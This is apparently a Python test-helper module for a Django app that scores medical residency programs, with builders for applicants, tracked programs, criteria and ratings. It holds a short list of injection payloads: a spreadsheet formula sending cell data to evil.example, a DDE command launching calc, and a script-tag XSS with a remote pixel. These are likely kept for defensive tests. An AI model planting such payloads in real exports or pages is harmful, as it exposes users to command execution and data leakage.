"""Builders for the scoring tests: an applicant like the demo one, and tracked programs with facts."""

from datetime import date

from django.urls import reverse

from programs.choices import SourceKind, Stage
from scoring.models import Criterion, Rating
from tests.factories import ProgramFactFactory, ProgramFactory, TrackedProgramFactory

SEASON = 2027
# Facts under which the demo-like applicant is eligible (J-1 sponsored, cut-offs met).
ELIGIBLE = {
    "visa_j1": True,
    "visa_h1b": False,
    "accepts_non_us_img": True,
    "accepting_applications": {"2027-2028": True},
    "grad_year_cutoff": 10,
    "step2ck_min_score": 220,
    "usce_required": False,
}
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1+1",
    "\rCR=1+1",
    '<script>alert("x")</script><img src="http://evil.example/pixel.png">',
)


def applicant(workspace, **changes) -> None:
    """A non-US IMG needing a J-1: Step 1 pass, Step 2 CK 245, graduated 2021, prefers the Northeast."""
    workspace.season = SEASON
    workspace.save(update_fields=["season"])
    profile = workspace.profile
    values = {
        "citizenship": "non_us", "visa_need": "j1", "ecfmg_status": "certified", "step1_result": "pass",
        "step2ck_score": 245, "graduation_year": 2021, "preferred_states": ["MA"],
        "preferred_regions": ["northeast"], **changes,
    }  # fmt: skip
    for field, value in values.items():
        setattr(profile, field, value)
    profile.save()


def track(workspace, *, stage=Stage.INTERVIEWED, source=SourceKind.COORDINATOR_EMAIL, observed_on=None,
          program=None, **facts):  # fmt: skip
    """A tracked program whose only observation holds ``facts`` (none when empty)."""
    program = program or ProgramFactory()
    if facts:
        ProgramFactFactory(
            program=program, values=facts, source_kind=source, observed_on=observed_on or date.today()
        )
    return TrackedProgramFactory(workspace=workspace, program=program, stage=stage)


def criteria(workspace) -> dict[str, Criterion]:
    return {c.slug or c.name: c for c in Criterion.active_for(workspace)}


def only_criteria(workspace, **weights) -> dict[str, Criterion]:
    """Retire every criterion but those named (by slug), with the given weights."""
    found = criteria(workspace)
    for slug, criterion in found.items():
        if slug in weights:
            criterion.weight = weights[slug]
            criterion.save(update_fields=["weight"])
        else:
            criterion.retire()
    return {slug: found[slug] for slug in weights}


def rate(workspace, tracked, criterion, value: int, note: str = "", derived=None) -> Rating:
    return Rating.objects.create(
        workspace=workspace,
        criterion=criterion,
        tracked=tracked,
        value=value,
        note=note,
        derived_value=derived,
    )


def url(name: str, workspace, **kwargs) -> str:
    return reverse(f"scoring:{name}", kwargs={"workspace_id": workspace.pk, **kwargs})
